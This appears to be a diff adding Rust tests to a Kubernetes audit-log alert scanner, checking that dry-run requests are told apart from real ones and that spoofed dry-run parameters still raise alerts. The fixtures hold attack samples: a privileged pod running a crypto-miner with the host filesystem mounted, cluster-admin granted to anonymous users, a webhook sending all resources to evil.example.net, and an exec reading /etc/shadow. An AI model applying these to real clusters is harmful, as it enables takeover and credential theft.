@@ -153,3 +153,60 @@ fn what_operators_do_all_day_is_at_most_low() {
         assert!(told(title), "{title}");
     }
 }
+
+/// What is told of a request of alice, by level and title.
+fn told(verb: &str, resource: &str, query: &str, over: Value) -> Vec<(String, String)> {
+    let mut day = Day::default();
+    let (kind, _) = resource.split_once('/').unwrap_or((resource, ""));
+    day.request(verb, resource, Some("shop"), Some("x"), over);
+    let mut event: Value = serde_json::from_str(&day.events[0]).expect("JSON");
+    event["requestURI"] = format!("/apis/x/v1/namespaces/shop/{kind}?{query}").into();
+    let (alerts, _) = scan(&[], format!("{event}\n").as_bytes());
+    alerts
+        .iter()
+        .map(|alert| (text_at(alert, "/rule/level").to_owned(), text_at(alert, "/summary").to_owned()))
+        .collect()
+}
+
+fn loud(told: &[(String, String)]) -> bool {
+    told.iter().any(|(level, _)| ["medium", "high", "critical"].contains(&level.as_str()))
+}
+
+#[test]
+fn what_was_only_tried_out_calls_nobody_and_is_told_apart() {
+    let pod = json!({"spec": {"hostPID": true, "containers": [{"image": "xmrig/xmrig", "securityContext": {"privileged": true}}], "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}});
+    let everything = json!({"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
+    let binding =
+        json!({"roleRef": {"name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "system:anonymous"}]});
+    let hook =
+        json!({"webhooks": [{"clientConfig": {"url": "https://evil.example.net"}, "rules": [{"resources": ["*"]}]}]});
+    let patch = json!([{"op": "add", "path": "/spec/template/spec/hostPID", "value": true}]);
+    for (verb, resource, body) in [
+        ("create", "pods", &pod),
+        ("create", "clusterroles.rbac.authorization.k8s.io", &everything),
+        ("create", "clusterrolebindings.rbac.authorization.k8s.io", &binding),
+        ("create", "mutatingwebhookconfigurations.admissionregistration.k8s.io", &hook),
+        ("patch", "deployments.apps", &patch),
+    ] {
+        let over = json!({"requestObject": body});
+        let real = told(verb, resource, "fieldManager=kubectl", over.clone());
+        assert!(loud(&real), "{resource}: {real:?}");
+        let trial = told(verb, resource, "fieldManager=kubectl&dryRun=All", over.clone());
+        assert!(!loud(&trial), "{resource}: {trial:?}");
+        assert!(
+            trial.iter().all(|(_, summary)| summary.contains("tried out to ") && summary.contains("dry run")),
+            "{trial:?}"
+        );
+        // What only looks like one: a value that says so, or another spelling.
+        for query in ["fieldManager=dryRun=All", "fieldManager=x?dryRun=All", "dryrun=All", "dryRun=All2"] {
+            assert!(loud(&told(verb, resource, query, over.clone())), "{resource} {query}");
+        }
+    }
+    let trial = json!({"requestObject": {"kind": "DeleteOptions", "dryRun": ["All"]}});
+    assert!(!loud(&told("delete", "networkpolicies.networking.k8s.io", "", trial)));
+    // The options in the body decide, whatever the query says; and nobody heeds the query of an exec.
+    let real = json!({"requestObject": {"kind": "DeleteOptions"}});
+    assert!(loud(&told("delete", "networkpolicies.networking.k8s.io", "dryRun=All", real)));
+    let shell = json!({"stage": "ResponseStarted", "responseStatus": {"code": 101}});
+    assert!(loud(&told("create", "pods/exec", "dryRun=All&command=cat&command=%2Fetc%2Fshadow", shell)));
+}
